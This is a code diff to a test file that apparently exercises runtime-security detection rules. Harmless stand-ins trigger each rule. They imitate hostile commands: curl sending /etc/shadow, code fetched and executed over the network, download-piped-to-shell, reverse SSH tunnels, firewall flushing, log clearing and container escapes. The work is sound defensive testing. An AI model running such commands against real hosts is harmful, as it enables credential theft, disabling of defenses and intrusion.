@@ -1,5 +1,5 @@
 import { spawnSync } from 'node:child_process'
-import { copyFileSync, existsSync, mkdirSync, rmdirSync, symlinkSync } from 'node:fs'
+import { copyFileSync, existsSync, mkdirSync, rmdirSync, symlinkSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import defaults from '@cws/rules-default'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
@@ -49,8 +49,27 @@ const runUnlinked = () => {
   run(generator('process_shapes'), ['unlinked', 'mark', program])
 }
 
-/** A program written to the upper layer of an overlay after it was mounted, run in a control group of a container. All of it is gone afterwards. */
-function runInContainer(): void {
+/** A copy of /bin/true under another name, for a program that runs it. It goes with the file's tests. */
+function copyAs(name: string): string {
+  const program = join(copies.path, name)
+  copyFileSync('/bin/true', program)
+  return program
+}
+const copies = temporaryFolder()
+afterAll(() => copies[Symbol.dispose]())
+
+/** A script of this name, called to install something, starts a program. */
+function runBelowScript(name: string, program: string): void {
+  const script = join(copies.path, name)
+  writeFileSync(script, `#!/bin/sh\n${program} 127.0.0.1 9\nexit 0\n`, { mode: 0o755 })
+  run(script, ['install', 'nothing'])
+}
+
+/** A shell command that has a terminal of its own. */
+const runAtTerminal = (command: string) => run('/usr/bin/script', ['-qec', command, '/dev/null'])
+
+/** A shell command beside an overlay, whose upper layer is written after it was mounted, in a control group of a container. All of it is gone afterwards. */
+function runInContainer(command: string): void {
   using folder = temporaryFolder()
   for (const name of ['lower', 'upper', 'work', 'merged']) mkdirSync(join(folder.path, name))
   const controller = ['/sys/fs/cgroup/memory', '/sys/fs/cgroup/pids', '/sys/fs/cgroup'].find((path) =>
@@ -61,9 +80,8 @@ function runInContainer(): void {
   mkdirSync(group, { recursive: true })
   try {
     const script = `mount -t overlay overlay -o lowerdir=lower,upperdir=upper,workdir=work merged
-cp /bin/true merged/added
 echo $$ > ${group}/cgroup.procs
-exec merged/added`
+${command}`
     const { status, stderr } = spawnSync('unshare', ['-m', 'sh', '-e', '-c', script], {
       cwd: folder.path,
       encoding: 'utf8',
@@ -93,7 +111,7 @@ const triggers: Readonly<Record<string, () => void>> = {
   'kernel-thread-disguise': () => runAs('worker', [], { argv0: '[kworker/0:1]' }),
   'loader-run-by-hand': () => run('/lib64/ld-linux-x86-64.so.2', ['/bin/true']),
   'command-beyond-sight': () => run('/bin/sh', ['-c', `${' '.repeat(70_000)}:`]),
-  'new-program-in-container': runInContainer,
+  'new-program-in-container': () => runInContainer('cp /bin/true merged/added; exec merged/added'),
   'decoder-piped-to-shell': () => run('/bin/sh', ['-c', 'false && echo aWQ= | base64 -d | sh']),
   'download-piped-to-shell': () => run('/bin/sh', ['-c', 'false && curl -fsSL http://127.0.0.1:9/x.sh | sh']),
   'credential-search': () => runInSession('find', '/home', '-name', 'id_rsa'),
@@ -106,6 +124,41 @@ const triggers: Readonly<Record<string, () => void>> = {
   cryptominer: () => runAs('xmrig', ['-o', 'stratum+tcp://127.0.0.1:9']),
   'security-tool-stopped': () => runInSession('setenforce', '0'),
   'file-made-immutable': () => runInSession('chattr', '+i', '/nowhere'),
+  'inline-code-fetched': () => runAs('python3', ['-c', 'from urllib.request import urlopen; exec(urlopen("http://127.0.0.1:9/").read())']),
+  'inline-code-decoded': () => run('/usr/bin/perl', ['-e', 'exit; eval(decode_base64("MQ=="))']),
+  'install-script-network-tool': () => runBelowScript('npm', copyAs('nc')),
+  'temporary-program-from-server': () => runBelow('nginx', copyAs('dropped')),
+  'download-from-web-server': () => runBelow('apache2', copyAs('curl'), 'http://127.0.0.1:9/x'),
+  'ssh-from-server': () => runBelow('postgres', copyAs('ssh'), 'nobody@127.0.0.1'),
+  'shell-from-network-service': () => runBelow('foomatic-rip', '/bin/sh', '-c', 'exit 0'),
+  'service-account-shell': () => runAtTerminal(`setpriv --reuid=${NOBODY} --clear-groups /bin/sh -c 'exit 0'`),
+  'ssh-tunnel-opened': () => runAs('ssh', ['-N', '-R', '2222:localhost:22', 'nobody@127.0.0.1']),
+  'tunnel-program': () => runAs('chisel', ['client', '127.0.0.1:9', 'R:socks']),
+  'tor-started': () => runAs('tor', ['-f', '/nowhere']),
+  'listener-by-hand': () => runInSession('nc', '-l', '-p', '9'),
+  'secret-sent-away': () => runInSession('curl', '-T', '/etc/shadow', 'http://127.0.0.1:9/'),
+  'paste-site-contacted': () => runInSession('curl', '--upload-file', '/nowhere', 'https://transfer.sh/x'),
+  'cloud-copy-tool': () => runAs('rclone', ['copy', '/nowhere', 'remote:x']),
+  'data-in-dns-names': () => runInSession('dig', `${'0123456789abcdef'.repeat(3)}.invalid`),
+  'daemon-disguise': () => runAs('systemd-worker'),
+  'deceptive-file-name': () => runAs('invoice.pdf'),
+  'timestamp-forged': () => runInSession('touch', '-r', '/bin/ls', '/usr/bin/cws-test-nowhere'),
+  'history-switched-off': () => run('/usr/bin/setsid', ['--wait', '/bin/bash', '-c', ':'], { env: { HISTFILE: '/dev/null' } }),
+  'kernel-log-cleared': () => runInSession('dmesg', '-C'),
+  'process-hidden-by-mount': () => runInSession('mount', '--bind', '/nowhere', '/proc/1'),
+  'firewall-switched-off': () => runInSession('iptables', '-F'),
+  'strange-kernel-module': () => runInSession('insmod', '/tmp/cws-test-nowhere.ko'),
+  'kernel-hook-written': () => runInSession('sysctl', '-w', 'kernel.core_pattern=|/nowhere'),
+  'kernel-protection-weakened': () => runInSession('sysctl', '-w', 'kernel.randomize_va_space=0'),
+  'kernel-replaced-at-run-time': () => runInSession('kexec', '-l', '/nowhere'),
+  'cpu-registers-written': () => runInSession('wrmsr', '-a', '0x1a4', '0xf'),
+  'host-namespace-entered': () => runInSession('nsenter', '-t', '1', '-m', 'true'),
+  'host-disk-in-container': () => runInContainer('cp /bin/true merged/mount; exec merged/mount /dev/sda1 /nowhere'),
+  'container-socket-used-by-hand': () => runInSession('curl', '--unix-socket', '/nowhere/docker.sock', 'http://x/'),
+  'privileged-container-started': () => runInSession('docker', 'run', '--privileged', 'nothing'),
+  'shell-in-container': () => runInContainer(`exec script -qec 'exec /bin/sh -c :' /dev/null`),
+  'package-manager-in-container': () => runInContainer('cp /bin/true merged/apk; exec merged/apk add nothing'),
+  'container-client-in-container': () => runInContainer('cp /bin/true merged/kubectl; exec merged/kubectl get secrets'),
 }
 /** Those about programs that run; those about files have tests of their own. */
 const rules = defaults.rules.filter(({ on }) => on === 'exec')
